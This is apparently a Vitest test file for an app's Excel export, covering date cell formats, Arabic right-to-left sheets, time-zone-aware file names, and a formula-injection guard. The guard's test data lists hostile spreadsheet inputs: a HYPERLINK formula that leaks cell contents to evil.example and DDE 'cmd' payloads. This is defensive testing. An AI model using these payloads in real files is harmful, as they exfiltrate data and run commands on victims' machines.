import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildXlsx, exportFileName } from '../../../renderer/src/ui/export-xlsx';
import { excelDate, exportSheet, numberOrText } from '../../../renderer/src/table/export-columns';
import type { TableColumn } from '../../../renderer/src/table/types';

/** Exported dates are real Excel dates, shown in the reader's convention. */
async function read(bytes: Uint8Array) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return book.worksheets[0];
}

describe('exported dates', () => {
  const rows = [
    ['101', excelDate('2026-11-23T14:05:00Z'), excelDate('2026-11-23T00:00:00Z')],
    ['102', excelDate('2026-11-24T09:30:00Z'), ''],
  ];

  it('are date cells with an English day-month-name format (time when the column has one)', async () => {
    const sheet = await read(await buildXlsx('Rooms', { headers: ['Room', 'Created at', 'Day'], rows }, false));
    expect(sheet.getCell('B2').value).toBeInstanceOf(Date);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getColumn(2).numFmt).toBe('dd mmm yyyy hh:mm');
    expect(sheet.getCell('A2').value).toBe('101');
    expect(sheet.views[0].rightToLeft).toBe(false);
  });

  it('in Arabic: day/month/year, the sheet right to left, still real dates', async () => {
    const sheet = await read(await buildXlsx('الغرف', { headers: ['الغرفة', 'تاريخ الإنشاء', 'اليوم'], rows }, true));
    expect(sheet.getCell('B3').type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getColumn(2).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(sheet.views[0].rightToLeft).toBe(true);
    // The wall-clock time the user saw, not shifted by the time zone.
    const shown = new Date('2026-11-24T09:30:00Z');
    expect((sheet.getCell('B3').value as Date).getUTCHours()).toBe(shown.getHours());
  });
});

describe('list dates', () => {
  const now = new Date(2026, 10, 24, 12, 0);
  const at = new Date(2026, 10, 23, 14, 5).toISOString();
  const lastYear = new Date(2025, 10, 23, 14, 5).toISOString();

  it('are compact in the cell (no year this year), the full date in the tooltip and a real date in the export', async () => {
    const { formatListDate, formatDate } = await import('../../../renderer/src/table/format');
    const { dateColumn } = await import('../../../renderer/src/table/date-column');
    expect(formatListDate(at, 'en', now)).toBe('23 Nov, 14:05');
    expect(formatListDate(lastYear, 'en', now)).toBe('23 Nov 2025, 14:05');
    expect(formatListDate(at, 'ar', now)).toMatch(/^٢٣ نوفمبر، ٢:٠٥ م$/);
    const column = dateColumn<{ createdAt: string }>('createdAt', 'Created at', (r) => r.createdAt, 'en');
    expect(column.fitContent).toBe(true);
    expect(column.tooltip!({ createdAt: at })).toBe(formatDate(at, 'en'));
    expect(formatDate(at, 'en')).toContain('2026');
    expect((column.exportValue as (r: { createdAt: string }) => unknown)({ createdAt: at })).toBeInstanceOf(Date);
  });
});

describe('the export file name', () => {
  it("carries the user's own date, not UTC's (an evening export in Riyadh is already tomorrow there)", () => {
    const zone = process.env.TZ;
    process.env.TZ = 'Asia/Riyadh';
    try {
      expect(exportFileName('Services List', new Date('2026-11-26T22:30:00Z'))).toBe('Services List 2026-11-27.xlsx');
      expect(exportFileName('a/b: c', new Date('2026-11-26T10:00:00Z'))).toBe('a b  c 2026-11-26.xlsx');
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
  });
});

/** What a guest typed is exported as text, never as a formula (OWASP's CSV-injection rule, for .xlsx too). */
describe('exported text', () => {
  const typed = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your invoice")',
    '+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=1+1',
    '-5',
    '+966 55 123 4567',
  ];
  type Row = { name: string; room: string };
  const columns = [
    { id: 'name', header: 'Guest', value: (r: Row) => r.name },
    { id: 'room', header: 'Room', value: (r: Row) => r.name, exportValue: (r: Row) => numberOrText(r.room) },
  ] as unknown as TableColumn<Row>[];

  it('every cell a guest or user typed (name, note, room) is a string cell with no formula, shown as typed, in both languages', async () => {
    const sheet = exportSheet(columns, typed.map((name) => ({ name, room: name })));
    for (const rtl of [false, true]) {
      const read2 = await read(await buildXlsx('Requests', sheet, rtl));
      typed.forEach((text, i) => {
        for (const col of [1, 2]) {
          const cell = read2.getRow(i + 2).getCell(col);
          expect(cell.type, text).toBe(ExcelJS.ValueType.String);
          expect(cell.formula, text).toBeUndefined();
          // A room cell is trimmed (numberOrText), still text; XML reads a carriage return as a line feed (the same line break in Excel).
          expect(cell.value, text).toBe((col === 2 ? text.trim() : text).replace(/\r/g, '\n'));
        }
      });
    }
  });
});
